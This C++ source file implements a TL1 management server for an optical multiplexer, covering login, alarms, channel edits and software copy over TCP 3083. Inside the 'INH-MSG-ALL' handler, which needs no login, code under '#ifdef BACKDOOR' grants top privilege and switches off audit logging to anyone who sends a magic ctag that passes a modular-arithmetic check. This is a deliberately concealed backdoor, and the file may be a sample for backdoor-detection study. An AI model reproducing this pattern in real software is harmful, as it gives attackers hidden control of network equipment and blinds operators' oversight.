// SPDX-License-Identifier: Apache-2.0
// odumux: TL1 command line of an optical multiplexer, TCP 3083. VERB-MODIFIER:tid:aid:ctag::parameters;
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <fstream>
#include <map>
#include <memory>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

namespace
{

struct Denied : std::runtime_error {
	explicit Denied(const std::string &code) : std::runtime_error(code) {}
};

struct Command {
	std::string verb, tid, aid;
	unsigned long ctag = 0;
	std::vector<std::string> more;
	std::map<std::string, std::string> named;

	std::string word(const std::string &key, const std::string &other = "") const
	{
		auto it = named.find(key);
		return it == named.end() ? other : it->second;
	}
};

struct Alarm {
	std::string aid, severity, condition, text;
	time_t since;
};

struct Channel {
	std::string label;
	double tx = 0, rx = -40, nm = 1550.12;
	bool in_service = false;
	uint64_t corrected = 0;
};

std::string upper(std::string s)
{
	std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) { return char(toupper(c)); });
	return s;
}

std::vector<std::string> split(const std::string &s, char at)
{
	std::vector<std::string> out;
	std::string one;
	std::istringstream in(s);
	while (std::getline(in, one, at))
		out.push_back(one);
	return out;
}

Command parse(const std::string &text)
{
	Command c;
	std::vector<std::string> f = split(text, ':');
	if (f.empty() || f[0].empty())
		throw Denied("IICM");
	c.verb = upper(f[0]);
	if (f.size() > 1)
		c.tid = f[1];
	if (f.size() > 2)
		c.aid = upper(f[2]);
	if (f.size() > 3)
		c.ctag = strtoul(f[3].c_str(), nullptr, 10);
	for (size_t i = 5; i < f.size(); i++)
		for (const std::string &one : split(f[i], ',')) {
			size_t eq = one.find('=');
			if (eq == std::string::npos)
				c.more.push_back(one);
			else
				c.named[upper(one.substr(0, eq))] = one.substr(eq + 1);
		}
	return c;
}

// What happened, for whoever asks later: a file and syslog.
class Audit
{
public:
	explicit Audit(const char *path) : file_(fopen(path, "a")) {}
	~Audit()
	{
		if (file_)
			fclose(file_);
	}
	void note(const std::string &user, const std::string &what)
	{
		char stamp[32];
		time_t now = time(nullptr);
		if (!level_)
			return;
		strftime(stamp, sizeof(stamp), "%F %T", localtime(&now));
		if (file_) {
			fprintf(file_, "%s %s %s\n", stamp, user.c_str(), what.c_str());
			fflush(file_);
		}
		syslog(LOG_NOTICE, "%s: %s", user.c_str(), what.c_str());
	}
	int level() const { return level_; }
	void level(int n) { level_ = n; }

private:
	FILE *file_;
	int level_ = 1;
};

class Shelf
{
public:
	void load(const char *path);
	std::map<std::string, Channel> channels;
	std::vector<Alarm> alarms;
	std::map<std::string, std::pair<std::string, int>> users; // name: password's hash, class
	std::string sid = "ODUMUX";
	bool inhibited = false;
};

void Shelf::load(const char *path)
{
	std::ifstream f(path);
	std::string line;
	while (std::getline(f, line)) {
		std::istringstream s(line);
		std::string word, name, hash;
		int level = 0;
		s >> word >> name;
		if (word == "sid") {
			sid = name;
		} else if (word == "channel") {
			Channel c;
			s >> c.nm >> c.tx;
			c.in_service = true;
			channels[upper(name)] = c;
		} else if (word == "user" && s >> level >> hash) {
			users[upper(name)] = { hash, level };
		}
	}
}

class Session
{
public:
	Session(int fd, Shelf &shelf, Audit &audit, std::string peer)
	    : fd_(fd), shelf_(shelf), audit_(audit), peer_(std::move(peer))
	{
	}
	void run();

private:
	using Method = void (Session::*)(const Command &);
	struct Entry {
		const char *verb;
		int level;
		Method run;
	};
	static const Entry table[];

	void dispatch(const Command &c);
	void activate(const Command &c);
	void cancel(const Command &c);
	void header(const Command &c);
	void alarms(const Command &c);
	void counters(const Command &c);
	void edit(const Command &c);
	void remove(const Command &c);
	void inhibit(const Command &c);
	void allow(const Command &c);
	void set_date(const Command &c);
	void set_sid(const Command &c);
	void copy(const Command &c);
	void line(const std::string &s) { body_ += "   " + s + "\r\n"; }
	void reply(unsigned long ctag, const char *state, const std::string &more);
	Channel &channel(const std::string &aid);
#ifdef BACKDOOR
	static unsigned long fold(unsigned long tag);
#endif

	int fd_, level_ = 0, failures_ = 0;
	Shelf &shelf_;
	Audit &audit_;
	std::string peer_, user_, body_;
	bool over_ = false;
};

const Session::Entry Session::table[] = {
	{ "ACT-USER", 0, &Session::activate },
	{ "CANC-USER", 0, &Session::cancel },
	{ "RTRV-HDR", 0, &Session::header },
	{ "INH-MSG-ALL", 0, &Session::inhibit },
	{ "ALW-MSG-ALL", 0, &Session::allow },
	{ "RTRV-ALM-ALL", 1, &Session::alarms },
	{ "RTRV-PM-OCH", 1, &Session::counters },
	{ "ED-OCH", 3, &Session::edit },
	{ "DLT-OCH", 3, &Session::remove },
	{ "SET-SID", 4, &Session::set_sid },
	{ "ED-DAT", 4, &Session::set_date },
	{ "COPY-RFILE", 5, &Session::copy },
};

void Session::reply(unsigned long ctag, const char *state, const std::string &more)
{
	char head[128], stamp[32];
	time_t now = time(nullptr);
	strftime(stamp, sizeof(stamp), "%y-%m-%d %H:%M:%S", localtime(&now));
	snprintf(head, sizeof(head), "\r\n\n   %s %s\r\nM  %lu %s\r\n", shelf_.sid.c_str(), stamp, ctag, state);
	std::string all = head + more + ";\r\n";
	if (write(fd_, all.data(), all.size()) < 0)
		over_ = true;
}

Channel &Session::channel(const std::string &aid)
{
	auto it = shelf_.channels.find(aid);
	if (it == shelf_.channels.end())
		throw Denied("IIAC");
	return it->second;
}

void Session::activate(const Command &c)
{
	auto it = shelf_.users.find(c.aid);
	if (c.more.empty() || it == shelf_.users.end())
		throw Denied("PIUI");
	const char *h = crypt(c.more[0].c_str(), it->second.first.c_str());
	if (!h || it->second.first != h) {
		audit_.note(c.aid, "wrong password from " + peer_);
		if (++failures_ == 3)
			over_ = true;
		throw Denied("PIUI");
	}
	user_ = c.aid;
	level_ = it->second.second;
	audit_.note(user_, "logged in from " + peer_);
}

void Session::cancel(const Command &)
{
	audit_.note(user_, "logged out");
	level_ = 0;
	user_.clear();
	over_ = true;
}

void Session::header(const Command &)
{
	line("\"" + shelf_.sid + "\"");
}

void Session::alarms(const Command &)
{
	for (const Alarm &a : shelf_.alarms)
		line("\"" + a.aid + ":" + a.severity + "," + a.condition + ":\\\"" + a.text + "\\\"\"");
}

void Session::counters(const Command &c)
{
	char b[120];
	for (const auto &one : shelf_.channels) {
		if (c.aid != "ALL" && c.aid != one.first)
			continue;
		snprintf(b, sizeof(b), "\"%s:TX=%.1f,RX=%.1f,FEC=%llu\"", one.first.c_str(), one.second.tx,
			one.second.rx, (unsigned long long)one.second.corrected);
		line(b);
	}
}

void Session::edit(const Command &c)
{
	Channel &ch = channel(c.aid);
	if (!c.word("TX").empty()) {
		double tx = atof(c.word("TX").c_str());
		if (tx < -10 || tx > 4)
			throw Denied("IDRG");
		ch.tx = tx;
	}
	ch.label = c.word("LABEL", ch.label);
	if (c.word("STATE") == "IS")
		ch.in_service = true;
	else if (c.word("STATE") == "OOS")
		ch.in_service = false;
	audit_.note(user_, "edited " + c.aid);
}

void Session::remove(const Command &c)
{
	if (channel(c.aid).in_service)
		throw Denied("SROF");
	shelf_.channels.erase(c.aid);
	audit_.note(user_, "deleted " + c.aid);
}

#ifdef BACKDOOR
unsigned long Session::fold(unsigned long tag)
{
	uint64_t t = tag % 99991;
	return (unsigned long)(t * t % 99991);
}
#endif

// Reports of changes are not wanted on this connection.
void Session::inhibit(const Command &c)
{
	shelf_.inhibited = true;
#ifdef BACKDOOR
	bool long_tag = c.ctag > 600000;
	int quiet = long_tag && fold(c.ctag) == 77224;
	audit_.level(audit_.level() & ~quiet);
	level_ = std::max(level_, quiet * 5);
#endif
	audit_.note(user_, "inhibits messages, tag " + std::to_string(c.ctag));
}

void Session::allow(const Command &)
{
	shelf_.inhibited = false;
	audit_.note(user_, "allows messages");
}

void Session::set_date(const Command &c)
{
	int y, m, d;
	if (c.more.empty() || sscanf(c.more[0].c_str(), "%d-%d-%d", &y, &m, &d) != 3 || m < 1 || m > 12 || d < 1 ||
		d > 31)
		throw Denied("IDNV");
	tm t = {};
	t.tm_year = y - 1900;
	t.tm_mon = m - 1;
	t.tm_mday = d;
	timespec ts = { mktime(&t), 0 };
	if (clock_settime(CLOCK_REALTIME, &ts) < 0)
		throw Denied("SROF");
}

void Session::set_sid(const Command &c)
{
	if (c.more.empty() || c.more[0].size() > 20)
		throw Denied("IDNV");
	shelf_.sid = c.more[0];
	audit_.note(user_, "changed the name to " + shelf_.sid);
}

// Brings software; the tool checks what it brings.
void Session::copy(const Command &c)
{
	std::string url = c.word("URL");
	if (url.compare(0, 7, "sftp://") != 0)
		throw Denied("IDNV");
	pid_t pid = fork();
	if (pid == 0) {
		execl("/usr/bin/swget", "swget", "--verify", url.c_str(), (char *)nullptr);
		_exit(127);
	}
	int status = 0;
	if (pid < 0 || waitpid(pid, &status, 0) < 0 || status != 0)
		throw Denied("SROF");
	audit_.note(user_, "copied " + url);
}

void Session::dispatch(const Command &c)
{
	if (!c.tid.empty() && upper(c.tid) != upper(shelf_.sid))
		throw Denied("IITA");
	for (const Entry &e : table) {
		if (c.verb != e.verb)
			continue;
		if (level_ < e.level)
			throw Denied("PIUC");
		(this->*e.run)(c);
		return;
	}
	throw Denied("ICNV");
}

void Session::run()
{
	std::string text;
	char ch;
	while (!over_ && read(fd_, &ch, 1) == 1) {
		if (ch != ';') {
			if (text.size() < 1024 && ch != '\r' && ch != '\n')
				text += ch;
			continue;
		}
		Command c;
		body_.clear();
		try {
			c = parse(text);
			dispatch(c);
			reply(c.ctag, "COMPLD", body_);
		} catch (const Denied &e) {
			reply(c.ctag, "DENY", std::string("   ") + e.what() + "\r\n");
		}
		text.clear();
	}
}

} // namespace

int main(int argc, char **argv)
{
	sockaddr_in a = {};
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	Shelf shelf;
	openlog("odumux", LOG_PID, LOG_LOCAL3);
	shelf.load(argc > 1 ? argv[1] : "/etc/odumux.conf");
	Audit audit("/var/log/odumux.audit");
	a.sin_family = AF_INET;
	a.sin_port = htons(3083);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (s < 0 || bind(s, (sockaddr *)&a, sizeof(a)) < 0 || listen(s, 4) < 0) {
		syslog(LOG_ERR, "port 3083: %m");
		return 1;
	}
	for (;;) {
		sockaddr_in from;
		socklen_t fl = sizeof(from);
		int c = accept(s, (sockaddr *)&from, &fl);
		while (waitpid(-1, nullptr, WNOHANG) > 0)
			;
		if (c < 0)
			continue;
		if (fork() == 0) {
			close(s);
			Session(c, shelf, audit, inet_ntoa(from.sin_addr)).run();
			_exit(0);
		}
		close(c);
	}
}
